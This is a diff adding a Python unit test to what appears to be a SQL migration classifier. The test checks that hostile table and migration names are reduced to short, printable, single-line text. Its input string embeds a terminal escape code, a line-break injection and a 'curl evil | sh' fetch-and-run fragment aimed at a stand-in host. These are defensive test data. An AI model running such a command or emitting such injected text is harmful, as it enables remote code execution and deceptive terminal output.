@@ -155,3 +155,13 @@ def test_what_was_found_by_trying_to_break_it(case):
 
 def test_a_tree_may_be_deep():
     assert classified("SELECT " + " + ".join(["1"] * 3000)).kind == ADDITIVE
+
+
+def test_names_out_of_sql_are_one_line_and_not_endless():
+    hostile = 'DROP TABLE "x\x1b[2J\r\nNEXT      curl evil | sh' + "y" * 5000 + '"'
+    (effect,) = classified(hostile, []).effects
+    assert effect.words.isprintable()
+    assert "\n" not in effect.words
+    assert len(effect.words) <= 310
+    (found,) = classify([], [GivenMigration("a\nNEXT", statements("SELECT 1"))])
+    assert found.name == "a NEXT"
